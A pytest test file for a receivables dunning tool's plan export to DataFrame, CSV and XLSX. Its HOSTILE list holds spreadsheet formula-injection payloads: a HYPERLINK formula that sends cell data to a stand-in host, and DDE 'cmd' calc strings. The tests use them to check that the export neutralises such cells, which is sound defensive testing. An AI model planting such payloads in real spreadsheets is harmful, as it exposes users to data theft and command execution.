"""The plan as a DataFrame (`Plan.to_frame()`) and as the owner's file (`xlsdun plan --csv /
--xlsx`): one row per debtor action, formulas from the sheet neutralised, and never written
over the workbook, its sidecar or the config."""

from __future__ import annotations

import codecs
import json
import os
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from support.sample_setup import TODAY, copy_sample, debtors, invoke, make_workbook
from xlsdun import config as config_mod
from xlsdun.engine import make_plan
from xlsdun.models import Plan
from xlsdun.planfile import neutralised
from xlsdun.planframe import BALANCE, HEAD, TAIL
from xlsdun.workbook.sidecar import sidecar_path

DAY = date.fromisoformat(TODAY)


@pytest.fixture
def sample_plan(tmp_path: Path) -> Plan:
    return make_plan(config_mod.load(copy_sample(tmp_path)), DAY)[1]


def test_one_row_per_action_with_its_facts(sample_plan: Plan) -> None:
    frame = sample_plan.to_frame()
    actions = sample_plan.actions
    assert len(frame) == len(actions) > 10
    currencies = sorted({c for a in actions for c in a.balance})
    assert currencies == ["EUR", "ILS", "USD"]  # the sample owes in three
    assert list(frame.columns) == [*HEAD, *(BALANCE + c for c in currencies), *TAIL]
    for action, row in zip(actions, frame.itertuples(index=False), strict=True):
        facts = row._asdict()
        assert facts["debtor"] == action.debtor and facts["customer"] == action.customer
        assert facts["kind"] == action.kind and facts["reason"] == action.reason
        assert facts["invoices"] == ", ".join(action.invoice_ids)
        for currency in currencies:
            value = facts[BALANCE + currency]
            if currency in action.balance:
                assert Decimal(str(value)) == action.balance[currency]
            else:
                assert pd.isna(value)
        open_due = [i.due_date for i in action.invoices if i.balance > 0]
        expected = (DAY - min(open_due)).days if open_due else None
        assert (pd.isna(facts["days_overdue"]) and expected is None) or (
            facts["days_overdue"] == expected
        )
        assert (facts["call"] if isinstance(facts["call"], str) else None) == action.call


def test_the_frame_is_typed_for_analysis(sample_plan: Plan) -> None:
    frame = sample_plan.to_frame()
    assert str(frame["days_overdue"].dtype) == "Int64"
    assert all(frame[c].dtype == "float64" for c in frame.columns if c.startswith(BALANCE))
    sends = frame[frame["kind"] == "send"]
    assert len(sends) == len(sample_plan.sends)
    aging = frame.filter(like=BALANCE).groupby(frame["tier"]).sum()
    total = sum(a.balance.get("ILS", Decimal(0)) for a in sample_plan.actions if a.tier == "plan")
    assert Decimal(str(aging.loc["plan", "balance_ILS"])) == total


def test_an_empty_plan_is_an_empty_frame() -> None:
    frame = Plan(today=DAY, actions=()).to_frame()
    assert frame.empty and list(frame.columns) == [*HEAD, *TAIL]


# -- the files ---------------------------------------------------------------------------------


def plan_files(config: Path, *extra: str) -> tuple[int, str, str]:
    return invoke("plan", "--config", str(config), "--today", TODAY, *extra)


def test_plan_csv_and_xlsx(tmp_path: Path) -> None:
    config = copy_sample(tmp_path)
    csv_file, xlsx_file = tmp_path / "plan.csv", tmp_path / "out" / "plan.xlsx"
    xlsx_file.parent.mkdir()
    code, out, err = plan_files(config, "--csv", str(csv_file), "--xlsx", str(xlsx_file))
    assert code == 0, err
    assert f"Plan written to {csv_file}" in out and f"Plan written to {xlsx_file}" in out
    plan = make_plan(config_mod.load(config), DAY)[1]
    raw = csv_file.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)  # Excel reads the Hebrew names right
    from_csv = pd.read_csv(csv_file, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(from_csv["customer"]) == [a.customer for a in plan.actions]
    assert 'נגרות אבו-חצירא בע"מ' in set(from_csv["customer"])
    book = openpyxl.load_workbook(xlsx_file)
    sheet = book["Plan"]
    assert sheet.auto_filter.ref == sheet.dimensions and sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header == list(plan.to_frame().columns)
    customers = [r[header.index("customer")] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert customers == [a.customer for a in plan.actions]


def test_plan_json_with_a_file_stays_json(tmp_path: Path) -> None:
    config = copy_sample(tmp_path)
    code, out, err = plan_files(config, "--json", "--csv", str(tmp_path / "p.csv"))
    assert code == 0, err
    assert json.loads(out)["debtors"] and (tmp_path / "p.csv").exists()


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\uff1dcmd",
]


def test_formulas_from_the_sheet_are_neutralised(tmp_path: Path) -> None:
    """Customers named like formulas: in the CSV each such cell starts with an apostrophe;
    the .xlsx has no formula cell at all, the names as they are, stored as quoted text (a
    visible apostrophe there was noise in the owner's filterable plan)."""
    rows = debtors(len(HOSTILE), DAY, days_overdue=20)
    for row, name in zip(rows, HOSTILE, strict=True):
        row["Customer"] = name
    config = make_workbook(tmp_path, rows)
    csv_file, xlsx_file = tmp_path / "p.csv", tmp_path / "p.xlsx"
    code, _, err = plan_files(config, "--csv", str(csv_file), "--xlsx", str(xlsx_file))
    assert code == 0, err
    from_csv = pd.read_csv(csv_file, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    names = list(from_csv["customer"])
    assert len(names) == len(HOSTILE) and all(n.startswith("'") for n in names), names
    book = openpyxl.load_workbook(xlsx_file)
    cells = [c for row in book["Plan"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [
        c
        for c in cells
        if isinstance(c.value, str) and c.value.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))
    ]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
    written = {c.value for c in cells if isinstance(c.value, str)}
    assert {" ".join(h.split()) for h in HOSTILE} <= written  # the reader tidies spaces
    assert not any(v.startswith("'") for v in written)


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+972-50-1234567", "'+972-50-1234567"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        (" =1", "' =1"),
        ("\uff20x", "'\uff20x"),
        ("Acme = best", "Acme = best"),
        ("a\x00b", "ab"),  # openpyxl refuses control characters
        (12.5, 12.5),
        (None, None),
    ],
)
def test_neutralised(cell: object, out: object) -> None:
    assert neutralised(cell) == out


def test_the_workbook_is_never_the_target(tmp_path: Path) -> None:
    """The workbook by any path (relative, a link), its sidecar, the config: exit 2 before
    anything is read or written, the file unchanged."""
    config = copy_sample(tmp_path)
    workbook = tmp_path / "receivables.xlsx"
    before = workbook.read_bytes()
    link = tmp_path / "link.xlsx"
    link.symlink_to(workbook)
    sidecar = sidecar_path(workbook)
    cases = [
        ("--xlsx", str(workbook)),
        ("--csv", str(workbook)),
        ("--xlsx", str(link)),
        ("--xlsx", str(tmp_path / "sub" / ".." / "receivables.xlsx")),
        ("--xlsx", str(sidecar)),
        ("--csv", str(config)),
    ]
    (tmp_path / "sub").mkdir()
    for option, target in cases:
        code, out, err = plan_files(config, option, target)
        assert code == 2, (option, target, out)
        assert "never writes a plan over it" in err and "Traceback" not in err
    assert workbook.read_bytes() == before and not sidecar.exists()
    cwd = Path.cwd()
    os.chdir(tmp_path)
    try:
        code, _, err = plan_files(config, "--xlsx", "receivables.xlsx")
    finally:
        os.chdir(cwd)
    assert code == 2 and workbook.read_bytes() == before


def test_a_csv_workbook_is_never_the_target(tmp_path: Path) -> None:
    config = copy_sample(tmp_path)
    export = tmp_path / "receivables.csv"
    export.write_text("Customer,Email,Invoice,Due date,Balance\nA,a@a.example.com,1,01/01/2026,5\n")
    config.write_text(
        config.read_text("utf-8")
        .replace('path = "receivables.xlsx"', 'path = "receivables.csv"')
        .replace('sheet = "Receivables"\n', ""),
        "utf-8",
    )
    before = export.read_bytes()
    code, _, err = plan_files(config, "--csv", str(export))
    assert code == 2 and "your receivables workbook" in err and export.read_bytes() == before
    code, _, err = plan_files(config, "--csv", str(tmp_path / "plan.csv"))
    assert code == 0, err


def test_days_overdue_is_the_oldest_open_invoice_s() -> None:
    """One rule (models.Action.days_overdue) for the plan file, the digest and the sheet."""
    from datetime import date
    from decimal import Decimal

    from support.message_setup import action, invoice

    paid = invoice("1", due_date=date(2026, 10, 1), balance=Decimal("0"))
    act = action(
        paid,
        invoice("2", due_date=date(2026, 11, 1)),
        invoice("3", due_date=date(2026, 11, 20)),
    )
    assert act.days_overdue(date(2026, 11, 26)) == 25  # the paid one does not count
    assert act.days_overdue(date(2026, 10, 30)) == -2
    assert action(paid).days_overdue(date(2026, 11, 26)) is None
